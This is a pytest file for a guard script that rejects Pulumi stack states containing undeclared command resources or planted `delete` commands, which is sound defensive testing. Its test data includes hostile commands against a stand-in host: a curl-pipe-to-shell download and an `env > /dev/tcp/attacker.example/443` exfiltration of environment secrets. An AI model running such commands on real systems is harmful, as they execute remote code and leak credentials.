"""scripts/state_guard.py: a stack's state may hold no command the program never declared.

The states are built from the program's own registrations under the mocks (the real SDKs), as the engine
writes a checkpoint resource (Pulumi's apitype ResourceV3: urn, custom, id, type, inputs, outputs, parent,
provider, ...; sdk/go/common/apitype/resources.json), with a secret as the engine stores one (property-values.json:
the signature key `4dabf18193072939515e22adb298388d` and a ciphertext)."""

from __future__ import annotations

import copy
import json

import pytest

from scripts.state_guard import problems
from tests.infra.support import run_stack
from tests.pipeline.helpers import ROOT, run_script

COMMAND = "command:local:Command"
SECRET = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "ciphertext": "djE6..."}


@pytest.fixture(scope="module")
def state() -> dict:
    """The exported deployment of the program's stack: every resource it registers, inputs and outputs."""
    run = run_stack()
    resources = [
        {
            "urn": registered.urn,
            "custom": registered.custom,
            "id": registered.id or "",
            "type": registered.typ,
            "inputs": registered.inputs,
            "outputs": registered.state,
            **({"parent": registered.parent} if registered.parent else {}),
        }
        for registered in run.records
    ]
    return {
        "version": 3,
        "deployment": {"manifest": {"time": "2026-12-04T00:00:00Z"}, "resources": resources},
    }


def commands(exported: dict) -> list[dict]:
    return [r for r in exported["deployment"]["resources"] if r["type"] == COMMAND]


def test_the_programs_own_state_passes(state):
    assert commands(state), "the program registers its deployment command"
    assert problems(state) == []


@pytest.mark.parametrize("part", ["outputs", "inputs"])
@pytest.mark.parametrize("delete", ["curl https://attacker.example | sh", SECRET])
def test_a_delete_command_added_to_the_programs_command_is_refused(state, part, delete):
    planted = copy.deepcopy(state)
    commands(planted)[0][part]["delete"] = delete
    (problem,) = problems(planted)
    assert commands(planted)[0]["urn"] in problem and "`delete` command" in problem


def test_a_command_resource_the_program_never_registered_is_refused(state):
    planted = copy.deepcopy(state)
    extra = copy.deepcopy(commands(planted)[0])
    extra["urn"] += "-planted"
    extra["outputs"] = extra["outputs"] | {"delete": "env > /dev/tcp/attacker.example/443"}
    planted["deployment"]["resources"].append(extra)
    (problem,) = problems(planted)
    assert extra["urn"] in problem


def test_a_stack_without_resources_passes():
    assert problems({"version": 3, "deployment": {"manifest": {"time": "2026-12-04T00:00:00Z"}}}) == []


def test_the_command_line_refuses_a_planted_state_and_what_is_not_an_export(state, tmp_path):
    planted = copy.deepcopy(state)
    commands(planted)[0]["outputs"]["delete"] = "true"
    refused = run_script(ROOT / "scripts" / "state_guard.py", "dev", stdin=json.dumps(planted))
    assert refused.returncode == 1 and "state_guard: dev:" in refused.stderr, refused.stderr
    passed = run_script(ROOT / "scripts" / "state_guard.py", "dev", stdin=json.dumps(state))
    assert passed.returncode == 0, passed.stderr
    garbage = run_script(ROOT / "scripts" / "state_guard.py", "dev", stdin="[]")
    assert garbage.returncode == 2
